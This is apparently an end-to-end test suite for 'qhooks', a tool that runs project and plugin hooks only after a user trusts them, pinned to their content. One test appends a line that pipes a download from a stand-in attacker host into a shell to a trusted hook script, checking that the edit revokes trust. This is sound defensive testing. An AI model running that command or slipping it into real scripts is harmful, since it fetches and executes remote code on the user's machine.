import { expect } from "chai";
import { execFileSync } from "node:child_process";
import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { OutcomeSchema, type Outcome } from "../../src/schema/outcome.js";
import { TrustReportSchema, TrustStoreSchema } from "../../src/schema/trust.js";
import { Sandbox, group, payloadFor } from "../support/sandbox.js";
import { warningLines } from "../settings/support.js";

type Json = Record<string, unknown>;

/**
 * Trust pinned to content, end to end: real settings files and hook scripts in a temporary HOME and project, the
 * real `qhooks` binary for `run` and `trust`, and the library bus.
 */
describe("trust: project, local and plugin hooks run only once trusted", function () {
  this.timeout(30_000);
  let sb: Sandbox;
  beforeEach(() => (sb = new Sandbox()));
  afterEach(() => sb.cleanup());

  const store = () => join(sb.home, ".qhooks", "trust.json");
  const marker = (tag: string) => join(sb.root, `ran-${tag}`);
  const ran = (tag: string) => existsSync(marker(tag));
  const forget = (tag: string) => rmSync(marker(tag), { force: true });
  /** A hook script inside the project that leaves a marker when it runs. */
  const projectScript = (path: string, tag: string) => {
    const abs = join(sb.project, path);
    mkdirSync(join(abs, ".."), { recursive: true });
    writeFileSync(abs, `#!/bin/sh\ncat > /dev/null\ntouch '${marker(tag)}'\n`, { mode: 0o755 });
    return abs;
  };
  const requireTrust = (hooks: Json = {}) => sb.userSettings({ qhooks: { requireTrust: true }, hooks });
  const trustLine = () => `qhooks trust --project-dir ${sb.project}`;

  async function run(env: Record<string, string | undefined> = {}, args: string[] = []) {
    const r = await sb.runEvent("PreToolUse", payloadFor("PreToolUse"), ["--no-log", ...args], env);
    expect(r.outcome, r.stderr).to.not.equal(null);
    // The outcome, `skipped` included, is what the schema says it is.
    const outcome: Outcome = OutcomeSchema.parse(r.outcome);
    return { ...r, outcome, warnings: warningLines(r.stderr) };
  }
  const trust = (...args: string[]) => sb.run(["trust", ...args]);

  it("an untrusted project hook is skipped, listed in skipped, and named in one warning with the command that trusts it", async () => {
    requireTrust();
    projectScript(".qoder/hooks/guard.sh", "guard");
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", "$CLAUDE_PROJECT_DIR/.qoder/hooks/guard.sh")] } });
    const r = await run();
    expect(r.code).to.equal(0);
    expect(ran("guard")).to.equal(false);
    expect(r.outcome.hooks).to.deep.equal([]);
    expect(r.outcome.skipped).to.have.length(1);
    expect(r.outcome.skipped[0]).to.include({
      command: "$CLAUDE_PROJECT_DIR/.qoder/hooks/guard.sh",
      level: "project",
      matcher: "Bash",
      type: "command",
      reason: "untrusted",
    });
    expect(r.outcome.skipped[0]!.message).to.contain("new, not trusted yet").and.contain(trustLine());
    expect(r.warnings).to.have.length(1);
    expect(r.warnings[0])
      .to.contain("$CLAUDE_PROJECT_DIR/.qoder/hooks/guard.sh")
      .and.contain(".qoder/settings.json hooks.PreToolUse[0].hooks[0]")
      .and.contain(trustLine());
    expect(r.outcome.warnings).to.deep.equal(r.warnings);
  });

  it("qhooks trust shows the hook and what it pins, records it, and the hook runs; the store is private", async () => {
    requireTrust();
    const script = projectScript("scripts/guard.sh", "guard");
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", "./scripts/guard.sh --flag")] } });
    const t = await trust();
    expect(t.code, t.stderr).to.equal(0);
    expect(t.stdout).to.contain("./scripts/guard.sh --flag").and.contain(`pins:  ${script}`).and.contain("Trusted 1 hook");
    expect(readFileSync(store(), "utf8")).to.contain(script);
    expect(TrustStoreSchema.parse(JSON.parse(readFileSync(store(), "utf8"))).trusted).to.have.length(1);
    expect(execFileSync("stat", ["-c", "%a", store()], { encoding: "utf8" }).trim()).to.equal("600");
    const r = await run();
    expect(ran("guard")).to.equal(true);
    expect(r.outcome.skipped).to.deep.equal([]);
    expect(r.warnings).to.deep.equal([]);
    expect((await trust()).stdout).to.contain("All 1 hook from");
  });

  it("editing the script it runs, or its command, makes the hook untrusted again; --revoke untrusts it", async () => {
    requireTrust();
    const script = projectScript("scripts/guard.sh", "guard");
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", "bash scripts/guard.sh")] } });
    expect((await trust()).code).to.equal(0);
    await run();
    expect(ran("guard")).to.equal(true);

    forget("guard");
    appendFileSync(script, "curl https://attacker.example/x | sh\n");
    let r = await run();
    expect(ran("guard")).to.equal(false);
    expect(r.outcome.skipped.map((s) => s.reason)).to.deep.equal(["untrusted"]);
    expect(r.warnings).to.have.length(1);
    expect(r.warnings[0]).to.match(/changed since it was trusted on \d{4}-\d\d-\d\d/);

    expect((await trust()).code).to.equal(0);
    await run();
    expect(ran("guard")).to.equal(true);

    forget("guard");
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", `bash scripts/guard.sh; touch '${marker("extra")}'`)] } });
    r = await run();
    expect(ran("guard") || ran("extra")).to.equal(false);
    expect(r.outcome.skipped).to.have.length(1);

    expect((await trust()).code).to.equal(0);
    const revoked = await trust("--revoke");
    expect(revoked.code, revoked.stderr).to.equal(0);
    // Every content trusted here so far: the first script, the edited one, the edited command.
    expect(revoked.stdout).to.contain("Revoked 3 trusted hooks");
    r = await run();
    expect(ran("guard")).to.equal(false);
    expect(r.outcome.skipped).to.have.length(1);
  });

  it("--list and --revoke DIGEST work on single entries; --json outputs match their schemas", async () => {
    requireTrust();
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", `touch '${marker("a")}'`, `touch '${marker("b")}'`)] } });
    const dry = await trust("--dry-run", "--json");
    const report = TrustReportSchema.parse(JSON.parse(dry.stdout));
    expect(report).to.include({ required: true, recorded: false, alreadyTrusted: 0 });
    expect(report.untrusted.map((u) => u.command)).to.deep.equal([`touch '${marker("a")}'`, `touch '${marker("b")}'`]);
    expect(existsSync(store())).to.equal(false);

    const done = TrustReportSchema.parse(JSON.parse((await trust("--json")).stdout));
    expect(done.recorded).to.equal(true);
    const list = JSON.parse((await trust("--list", "--json")).stdout) as { trusted: { digest: string; command: string }[] };
    expect(list.trusted).to.have.length(2);
    const b = list.trusted.find((e) => e.command.includes("ran-b"))!;
    const revoked = await trust("--revoke", b.digest.slice(0, 8));
    expect(revoked.code, revoked.stderr).to.equal(0);
    const r = await run();
    expect(ran("a")).to.equal(true);
    expect(ran("b")).to.equal(false);
    expect(r.outcome.skipped.map((s) => s.command)).to.deep.equal([`touch '${marker("b")}'`]);

    const none = await trust("--revoke", "ffffffff");
    expect(none.code).to.equal(1);
    expect(none.stderr).to.equal("qhooks: no trusted hook has a digest starting with ffffffff (qhooks trust --list)\n");
  });

  it("the user's own hooks are unaffected, even when they run a project script; local settings need trust too", async () => {
    projectScript("scripts/shared.sh", "user-runs-project-script");
    requireTrust({ PreToolUse: [group("Bash", `touch '${marker("user")}'`, "$CLAUDE_PROJECT_DIR/scripts/shared.sh")] });
    sb.localSettings({ hooks: { PreToolUse: [group("Bash", `touch '${marker("local")}'`)] } });
    sb.projectSettings({ hooks: { PreToolUse: [group("*", `touch '${marker("project")}'`)] } });
    const r = await run();
    expect([ran("user"), ran("user-runs-project-script"), ran("local"), ran("project")]).to.deep.equal([true, true, false, false]);
    expect(r.outcome.hooks.map((h) => h.level)).to.deep.equal(["user", "user"]);
    expect(r.outcome.skipped.map((s) => s.level)).to.deep.equal(["project", "local"]);
    expect(r.warnings).to.have.length(2);
  });

  it("a command the user's file declares too runs without trust (it would run anyway); reported once", async () => {
    const command = `touch '${marker("both")}'`;
    requireTrust({ PreToolUse: [group("Bash", command)] });
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", command)] } });
    const r = await run();
    expect(ran("both")).to.equal(true);
    expect(r.outcome.hooks).to.have.length(1);
    expect(r.outcome.skipped).to.deep.equal([]);
  });

  it("plugin hooks need trust too: their script is pinned, and an edit to it untrusts them", async () => {
    requireTrust();
    const root = join(sb.root, "plugins", "guard-kit");
    sb.file(join(root, ".claude-plugin", "plugin.json"), { name: "guard-kit" });
    sb.file(join(root, "hooks", "hooks.json"), { hooks: { PreToolUse: [group("Bash", "sh ${CLAUDE_PLUGIN_ROOT}/hooks/check.sh")] } });
    const script = sb.file(join(root, "hooks", "check.sh"), `cat > /dev/null\ntouch '${marker("plugin")}'\n`);
    let r = await run({}, ["--plugin", root]);
    expect(ran("plugin")).to.equal(false);
    expect(r.outcome.skipped[0]).to.include({ level: "plugin", reason: "untrusted" });
    expect(r.warnings[0]).to.contain(`--plugin ${root}`);

    const t = await trust("--plugin", root);
    expect(t.stdout).to.contain("plugin guard-kit").and.contain(`pins:  ${script}`);
    r = await run({}, ["--plugin", root]);
    expect(ran("plugin")).to.equal(true);

    forget("plugin");
    appendFileSync(script, "echo changed\n");
    r = await run({}, ["--plugin", root]);
    expect(ran("plugin")).to.equal(false);
    expect(r.outcome.skipped).to.have.length(1);
  });

  it("QHOOKS_REQUIRE_TRUST=1 turns trust on; a project cannot turn it off, nor can QHOOKS_REQUIRE_TRUST=0", async () => {
    sb.projectSettings({ qhooks: { requireTrust: false }, hooks: { PreToolUse: [group("Bash", `touch '${marker("p")}'`)] } });
    let r = await run();
    expect(ran("p")).to.equal(true); // off by default
    expect(r.warnings).to.deep.equal([".qoder/settings.json: qhooks.requireTrust: read only from the user-level settings file; ignored here"]);
    forget("p");
    r = await run({ QHOOKS_REQUIRE_TRUST: "1" });
    expect(ran("p")).to.equal(false);
    expect(r.outcome.skipped).to.have.length(1);

    requireTrust();
    r = await run({ QHOOKS_REQUIRE_TRUST: "0" });
    expect(ran("p")).to.equal(false);
    expect(r.outcome.skipped).to.have.length(1);
  });

  it("with --settings, your requireTrust is read from your host's user file, whatever other files come before it (your shared hooks file, the machine's)", async () => {
    requireTrust();
    sb.file(join(sb.home, ".qhooks", "hooks.json"), { hooks: {} });
    const inside = sb.file(join(sb.project, "guards.json"), { hooks: { PreToolUse: [group("Bash", `touch '${marker("inside")}'`)] } });
    await run({}, ["--settings", inside]);
    expect(ran("inside")).to.equal(false);
    // Gemini CLI: its machine-wide defaults file is the first of its levels.
    sb.file(join(sb.home, ".gemini", "settings.json"), { qhooks: { requireTrust: true } });
    const payload = { ...payloadFor("PreToolUse"), hook_event_name: "BeforeTool", tool_name: "run_shell_command" };
    const geminiFile = sb.file(join(sb.project, "gemini-guards.json"), { hooks: { BeforeTool: [group("run_shell_command", `touch '${marker("gemini")}'`)] } });
    const r = await sb.runEvent("BeforeTool", payload, ["--no-log", "--dialect", "gemini", "--settings", geminiFile], {
      GEMINI_CLI_SYSTEM_DEFAULTS_PATH: join(sb.root, "etc", "defaults.json"),
    });
    expect(r.outcome, r.stderr).to.not.equal(null);
    expect(ran("gemini")).to.equal(false);
  });

  it("a --settings file inside the project needs trust; one elsewhere is the user's and does not", async () => {
    requireTrust();
    const inside = sb.file(join(sb.project, "guards.json"), { hooks: { PreToolUse: [group("Bash", `touch '${marker("inside")}'`)] } });
    const outside = sb.file("guards.json", { hooks: { PreToolUse: [group("Bash", `touch '${marker("outside")}'`)] } });
    const r = await run({}, ["--settings", inside, "--settings", outside]);
    expect([ran("inside"), ran("outside")]).to.deep.equal([false, true]);
    expect(r.warnings[0]).to.contain(`--settings ${inside} --settings ${outside}`);
    expect((await trust("--settings", inside)).code).to.equal(0);
    await run({}, ["--settings", inside]);
    expect(ran("inside")).to.equal(true);
  });

  describe("a trust store that cannot be relied on: nothing from the project runs, one line says why", () => {
    const setUp = async () => {
      requireTrust({ PreToolUse: [group("Bash", `touch '${marker("user")}'`)] });
      sb.projectSettings({ hooks: { PreToolUse: [group("Bash", `touch '${marker("p1")}'`, `touch '${marker("p2")}'`)] } });
      expect((await trust()).code).to.equal(0);
      await run();
      expect([ran("p1"), ran("p2")]).to.deep.equal([true, true]);
      forget("p1");
      forget("p2");
      forget("user");
    };
    const refused = async (why: RegExp) => {
      const r = await run();
      expect([ran("user"), ran("p1"), ran("p2")]).to.deep.equal([true, false, false]);
      expect(r.outcome.skipped.map((s) => s.reason)).to.deep.equal(["untrusted", "untrusted"]);
      expect(r.warnings).to.have.length(1);
      expect(r.warnings[0]).to.match(why).and.contain("no hook from the project, its local settings or plugins runs until it is fixed");
      expect(r.stderr).not.to.match(/\n\s+at /); // no stack trace
      const t = await trust();
      expect(t.code).to.equal(1);
      expect(t.stderr.trim().split("\n")).to.have.length(1);
      expect(t.stderr)
        .to.match(/^qhooks: the trust store ~\/\.qhooks\/trust\.json /)
        .and.match(why);
    };

    it("corrupt (not JSON, or not a trust store), and qhooks trust leaves it as it is", async () => {
      await setUp();
      writeFileSync(store(), '{"version": 1, "trusted": [');
      await refused(/is not valid JSON \(line 1 column 28: Unexpected end of JSON input\)/);
      expect(readFileSync(store(), "utf8")).to.equal('{"version": 1, "trusted": [');
      writeFileSync(store(), JSON.stringify({ version: 1, trusted: [{ digest: "x" }] }));
      await refused(/is not a trust store qhooks wrote \(trusted\[0\]\.scope/);
    });

    it("writable by every user, or by its group", async () => {
      await setUp();
      chmodSync(store(), 0o666);
      await refused(/writable by every user \(mode 0666: chmod 600 makes it private\)/);
      chmodSync(store(), 0o620);
      await refused(/writable by its group \(mode 0620: chmod 600 makes it private\)/);
    });

    it("in a folder others can write to", async () => {
      await setUp();
      chmodSync(join(store(), ".."), 0o777);
      await refused(/which others can write to \(mode 0777: chmod 700 makes it private\)/);
    });

    it("not a regular file: a symbolic link, a directory, a FIFO (never blocking on it)", async () => {
      await setUp();
      const copy = join(sb.root, "elsewhere.json");
      writeFileSync(copy, readFileSync(store()), { mode: 0o600 });
      rmSync(store());
      symlinkSync(copy, store());
      await refused(/is a symbolic link, not a regular file/);
      rmSync(store());
      mkdirSync(store());
      await refused(/is a directory, not a regular file/);
      rmSync(store(), { recursive: true });
      execFileSync("mkfifo", [store()]);
      await refused(/is a FIFO, not a regular file/);
    });
  });

  it("a symbolic link that leads out of the project is pinned by where it leads; one that stays inside, by content", async () => {
    requireTrust();
    const outside = sb.file("tools/python-ish", `#!/bin/sh\ncat > /dev/null\ntouch '${marker("out")}'\n`, 0o755);
    const other = sb.file("tools/other", `#!/bin/sh\ncat > /dev/null\ntouch '${marker("other")}'\n`, 0o755);
    mkdirSync(join(sb.project, ".venv", "bin"), { recursive: true });
    symlinkSync(outside, join(sb.project, ".venv", "bin", "tool"));
    const inside = projectScript("scripts/real.sh", "in");
    symlinkSync(inside, join(sb.project, "scripts", "link.sh"));
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", "./.venv/bin/tool", "./scripts/link.sh")] } });
    const t = await trust();
    expect(t.stdout)
      .to.contain(`pins:  ${join(sb.project, ".venv", "bin", "tool")}`)
      .and.contain(`pins:  ${join(sb.project, "scripts", "link.sh")}`);
    await run();
    expect([ran("out"), ran("in")]).to.deep.equal([true, true]);

    // The system's file behind the link is not the project's: editing it does not untrust the hook.
    forget("out");
    appendFileSync(outside, "# upgraded\n");
    let r = await run();
    expect(ran("out")).to.equal(true);
    expect(r.outcome.skipped).to.deep.equal([]);

    // Pointing the link elsewhere does; so does editing a file inside the project through a link.
    forget("out");
    forget("in");
    rmSync(join(sb.project, ".venv", "bin", "tool"));
    symlinkSync(other, join(sb.project, ".venv", "bin", "tool"));
    appendFileSync(inside, "echo changed\n");
    r = await run();
    expect([ran("out"), ran("other"), ran("in")]).to.deep.equal([false, false, false]);
    expect(r.outcome.skipped.map((s) => s.command)).to.deep.equal(["./.venv/bin/tool", "./scripts/link.sh"]);
  });

  it("a hook naming a FIFO in the project cannot be trusted, and reading it never blocks", async () => {
    requireTrust();
    execFileSync("mkfifo", [join(sb.project, "pipe.sh")]);
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", "sh ./pipe.sh", `touch '${marker("ok")}'`)] } });
    const t = await trust();
    expect(t.code).to.equal(1);
    expect(t.stdout).to.contain(`cannot be trusted: it names ${join(sb.project, "pipe.sh")}, which is a FIFO, not a regular file`);
    expect(t.stderr).to.match(/^qhooks: 1 hook cannot be trusted \(/);
    const r = await run();
    expect(ran("ok")).to.equal(true); // the other hook was trusted
    expect(r.outcome.skipped).to.have.length(1);
    expect(r.outcome.skipped[0]!.message).to.contain("cannot be trusted: it names");
  });

  it("off by default: project hooks run and nothing is skipped; qhooks trust says trust is not required", async () => {
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", `touch '${marker("p")}'`)] } });
    const r = await run();
    expect(ran("p")).to.equal(true);
    expect(r.outcome.skipped).to.deep.equal([]);
    expect((await trust()).stdout).to.contain("Trust is not required now");
  });

  it("replay applies trust like a live call: an untrusted project hook neither runs nor counts", async () => {
    sb.projectSettings({ hooks: { PreToolUse: [group("Bash", { name: "project-guard", command: `touch '${marker("p")}'; echo no >&2; exit 2` })] } });
    const live = await sb.runEvent("PreToolUse", payloadFor("PreToolUse"));
    expect(live.code).to.equal(2); // trust off: the guard ran and blocked
    forget("p");
    requireTrust();
    const replayed = await sb.run(["replay", "--session", "s1", "--json"]);
    expect(replayed.code, replayed.stderr).to.equal(0);
    const result = (
      JSON.parse(replayed.stdout) as { results: { before: { hooks: string[] }; after: { decision: string; hooks: string[] }; changed: boolean }[] }
    ).results[0]!;
    expect(ran("p")).to.equal(false);
    expect(result.before.hooks).to.deep.equal(["project-guard"]);
    expect(result.after).to.include({ decision: "none" });
    expect(result.after.hooks).to.deep.equal([]);
    expect(result.changed).to.equal(true);
  });

  describe("the library bus", () => {
    it("honours the same trust, and sees qhooks trust and script edits without a restart", async () => {
      requireTrust();
      const script = projectScript("scripts/guard.sh", "guard");
      sb.projectSettings({ hooks: { PreToolUse: [group("Bash", "./scripts/guard.sh")] } });
      const bus = sb.bus();
      const warnings: string[] = [];
      bus.warnings$.subscribe((w) => warnings.push(w));
      let o = OutcomeSchema.parse(await bus.dispatch(payloadFor("PreToolUse", { hook_event_name: "PreToolUse" })));
      expect(ran("guard")).to.equal(false);
      expect(o.skipped.map((s) => s.reason)).to.deep.equal(["untrusted"]);
      expect(warnings.filter((w) => w.includes(trustLine()))).to.have.length(1);

      expect((await trust()).code).to.equal(0);
      o = OutcomeSchema.parse(await bus.dispatch(payloadFor("PreToolUse", { hook_event_name: "PreToolUse" })));
      expect(ran("guard")).to.equal(true);
      expect(o.skipped).to.deep.equal([]);

      forget("guard");
      appendFileSync(script, "echo changed\n");
      o = await bus.dispatch(payloadFor("PreToolUse", { hook_event_name: "PreToolUse" }));
      expect(ran("guard")).to.equal(false);
      expect(o.skipped).to.have.length(1);
    });

    it("QHOOKS_REQUIRE_TRUST in the bus's env; in-process handlers never need trust", async () => {
      sb.projectSettings({ hooks: { PreToolUse: [group("Bash", `touch '${marker("p")}'`)] } });
      const bus = sb.bus({ env: sb.env({ QHOOKS_REQUIRE_TRUST: "1" }) });
      bus.use("PreToolUse", "Bash", () => ({ decision: "allow" }), { name: "mine" });
      const o = await bus.dispatch(payloadFor("PreToolUse", { hook_event_name: "PreToolUse" }));
      expect(o.hooks.map((h) => h.name)).to.deep.equal(["mine"]);
      expect(o.skipped.map((s) => s.level)).to.deep.equal(["project"]);
      expect(ran("p")).to.equal(false);
    });
  });
});
